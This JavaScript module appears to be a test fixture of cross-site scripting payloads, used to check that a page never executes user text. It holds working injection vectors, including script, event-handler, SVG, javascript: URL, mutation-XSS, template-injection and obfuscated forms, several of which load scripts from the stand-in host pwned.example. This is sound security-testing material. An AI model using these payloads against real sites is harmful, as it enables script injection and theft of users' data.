// Texts of somebody who wants a page to run them. Each, once it is taken for more than text, sets `window.__pwned`, opens a
// dialog, asks another host for something, or leaves an element with `data-pwned` behind. All contain the word that tells
// that a page shows them, except those for fields of a few characters.

export const mark = 'pwned'

const run = 'window.__pwned=1'
const far = 'https://pwned.example'
const encoded = (text) => encodeURIComponent(text)
const base64 = (text) => Buffer.from(text).toString('base64')
const entities = (text) => [...text].map((char) => `&#${char.codePointAt(0)};`).join('')

const scripts = [
  `<script data-pwned>${run}</script>`,
  `</title></textarea></style></noscript></script><script data-pwned>${run}</script>`,
  `<ScRiPt\tdata-pwned\n>${run}</sCrIpT\t>`,
  `<script data-pwned src=${far}/s.js></script>`,
  `<script data-pwned src="data:text/javascript,${encoded(run)}"></script>`,
  `<script data-pwned type=module>import('${far}/m.js');${run}</script>`,
  `]]><script data-pwned>alert('pwned')</script><![CDATA[`,
  `<scr<script>ipt data-pwned>${run}</scr</script>ipt>`,
]

const handlers = [
  `<img data-pwned src=x onerror="${run}">`,
  `<img/data-pwned/src=x/onerror=confirm(/pwned/)>`,
  `<body data-pwned onload=${run}>`,
  `<input data-pwned autofocus onfocus=${run}>`,
  `<details data-pwned open ontoggle=${run}><summary>pwned</summary></details>`,
  `<video data-pwned><source onerror=${run}></video>`,
  `<p data-pwned onpointerover=${run} style="position:fixed;inset:0;z-index:99999">pwned</p>`,
  `<a data-pwned id=x tabindex=1 onfocusin=${run}>pwned</a>`,
  `<dialog data-pwned open onclose=${run}><form method=dialog><button autofocus>pwned</button></form></dialog>`,
]

const drawings = [
  `<svg data-pwned onload=${run}></svg>`,
  `<svg data-pwned><animate attributeName=x dur=1s onbegin=${run}></svg>`,
  `<svg><a data-pwned xlink:href="javascript:${run}"><text y=20>pwned</text></a></svg>`,
  `<svg><foreignObject><iframe data-pwned srcdoc="<script>parent.__pwned=1</script>"></iframe></foreignObject></svg>`,
  `<svg><use data-pwned href="data:image/svg+xml;base64,${base64(`<svg id=x onload="${run}"/>`)}#x"></use></svg>`,
  `<math data-pwned href="javascript:${run}"><mtext>pwned</mtext></math>`,
]

const addresses = [
  `javascript:${run}//pwned`,
  `JaVa\tScRiPt:${run}//pwned`,
  `javascript:alert('pwned')`,
  `data:text/html,<script data-pwned>${encoded(run)}</script>`,
  `data:text/html;base64,${base64(`<script>opener.__pwned=1</script>`)}#pwned`,
  `vbscript:msgbox("pwned")`,
  `[pwned](javascript:${run})`,
  `<a data-pwned href="${entities('javascript:')}${run}">pwned</a>`,
  `${far}/"onmouseover="${run}`,
]

const frames = [
  `<iframe data-pwned srcdoc="<img src=x onerror=parent.__pwned=1>"></iframe>`,
  `<iframe data-pwned src="javascript:parent.__pwned=1"></iframe>`,
  `<object data-pwned data="${far}/o"></object><embed data-pwned src="${far}/e">`,
  `<base data-pwned href="${far}/"><form data-pwned action="${far}"><button>pwned</button></form>`,
  `<meta data-pwned http-equiv=refresh content="0;url=${far}">`,
  `<link data-pwned rel=stylesheet href="${far}/c.css">`,
]

const broken = [
  `" data-pwned autofocus onfocus="${run}" x="`,
  `' data-pwned onmouseover='${run}' x='`,
  `\` data-pwned onmouseover=${run} x=\``,
  `"><img data-pwned src=x onerror=${run}>`,
  `--><img data-pwned src=x onerror=${run}><!--`,
  `\\"};${run};//pwned`,
  `&lt;img data-pwned src=x onerror=${run}&gt;`,
  `%3Cimg%20data-pwned%20src%3Dx%20onerror%3D${run}%3E`,
  `\\u003cimg data-pwned src=x onerror=${run}\\u003e`,
]

// What is harmless as it is written and harmful as a browser writes it back.
const mutating = [
  `<noscript><p title="</noscript><img data-pwned src=x onerror=${run}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img data-pwned src=x onerror=${run}>`,
  `<svg></p><style><a title="</style><img data-pwned src=x onerror=${run}>">`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img data-pwned onerror=${run} src=x>">`,
  `<template><img data-pwned src=x onerror=${run}></template>`,
  `<xmp><p title="</xmp><img data-pwned src=x onerror=${run}>">`,
]

const templates = [
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `<%= pwned %>{%raw%}#{${run}}`,
  `$t(nav.clients) {{count}} $t(pwned)`,
  `{"$$typeof":"react.element","type":"img","props":{"data-pwned":1,"onError":"${run}"}}`,
  `__proto__.pwned constructor.prototype.pwned`,
]

const styles = [
  `</style><style data-pwned>*{background:url(${far}/b)}</style>`,
  `x" style="background:url(${far}/s)" data-pwned="`,
  `<div data-pwned style="position:fixed;inset:0;background:red">pwned</div>`,
]

const strange = [
  `‮<img data-pwned src=x onerror=${run}>⁦pwned`,
  `＜script data-pwned＞${run}＜/script＞`,
  `<img​ data-pwned src=x onerror=${run}>`,
  `<\u00a0img data-pwned src=x onerror=${run}>`,
  `ʺ><svg data-pwned onload=${run}>𝕡𝕨𝕟𝕖𝕕`,
  `pwned${'Ы́̈̂'.repeat(12)}`,
  `pwned${'W'.repeat(180)}`,
  `pwned\u2028<svg data-pwned onload=${run}>\u2029`,
]

export const payloads = [scripts, handlers, drawings, addresses, frames, broken, mutating, templates, styles, strange].flat()

/** The plainest, for fields that refuse another one's characters. */
export const plain = `<img data-pwned src=x onerror=${run}>`

/** For fields that are too short for a payload. */
export const short = ['"><b data-pwned>', '<b>pwned', '<b>', '<']
